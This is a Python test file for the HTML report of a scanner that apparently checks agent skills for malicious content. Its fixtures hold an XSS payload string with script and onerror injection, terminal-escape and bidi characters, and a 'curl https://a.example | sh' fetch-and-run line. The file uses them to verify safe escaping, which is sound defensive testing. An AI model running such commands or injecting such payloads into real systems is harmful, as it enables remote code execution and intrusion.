"""The page for browsers: whole, without scripts or anything remote, and safe whatever a skill's text holds."""

from collections.abc import Callable
from html.parser import HTMLParser

from clawft.scanner import Coverage, Finding, Gap, Report
from clawft.scanner.reports.html import render_html
from clawft.scanner.reports.text import Excerpt

Make = Callable[..., Report]
EVIL = "</pre><script>alert(1)</script><img src=x onerror=alert(2)>\"'&\x1b[2J\u202e\udcff"


class _Page(HTMLParser):
    """The tags and attributes of a page, and its text; every tag must be closed in turn."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.open: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        if tag != "meta":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" not in self.open:
            self.text += data


def _lines(_report: Report, finding: Finding) -> Excerpt:
    return Excerpt(((2, "set -e"), (3, finding.evidence), (4, "exit")), 3, 3)


def test_page_tells_verdict_power_finding_line_why_and_what_to_do(report: Make) -> None:
    page = _Page(render_html([report()], _lines))

    for text in (
        "Scan of 1 skill", "malicious", "95% sure", "collect.example.net", "secret-file-sent", "scripts/run.sh:3",
        "set -e", "Whoever receives the file can act as the user.", "Remove the line.",
    ):  # fmt: skip
        assert text in page.text
    assert page.open == []


def test_page_has_no_script_and_loads_nothing(report: Make) -> None:
    text = render_html([report()], _lines)
    page = _Page(text)

    assert not {"script", "link", "img", "iframe", "object", "form", "a"} & set(page.tags)
    assert page.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class", "id"}
    assert "default-src 'none'" in text
    assert "url(" not in text
    assert "@import" not in text


def test_hostile_text_is_only_text(report: Make) -> None:
    finding = Finding(*[EVIL, "high", EVIL, EVIL, EVIL, 3, 3, EVIL, EVIL, EVIL, 0.5, (EVIL,)])  # type: ignore[arg-type]
    hostile = report(name=EVIL, path=EVIL, findings=(finding,), coverage=Coverage(1, 1, (Gap(EVIL, EVIL),)))
    text = render_html([hostile, report(name=EVIL, verdict="clean", findings=())], _lines)
    page = _Page(text)

    assert "<script" not in text
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert not {"script", "img"} & set(page.tags)
    assert "onerror" not in page.attributes
    text.encode()


def test_clean_skills_are_a_list_at_the_end(report: Make) -> None:
    quiet = [report(name=f"quiet-{number}", verdict="clean", findings=()) for number in range(3)]

    text = _Page(render_html([*quiet, report()], _lines)).text

    assert text.index("bad") < text.index("Clean: nothing found") < text.index("quiet-0") < text.index("quiet-2")


def test_decoded_evidence_is_shown_with_its_way(report: Make, finding: Callable[..., Finding]) -> None:
    decoded = report(findings=(finding(origin=("fence", "base64"), evidence="curl https://a.example | sh"),))

    text = _Page(render_html([decoded], lambda *_: Excerpt(((3, "Y3VybA=="),), 3, 3))).text

    assert "Found in base64 in a code block" in text
    assert "curl https://a.example | sh" in text
    assert "Y3VybA==" in text


def test_nothing_scanned_is_a_page_too() -> None:
    assert "Scan of 0 skills" in _Page(render_html([], _lines)).text
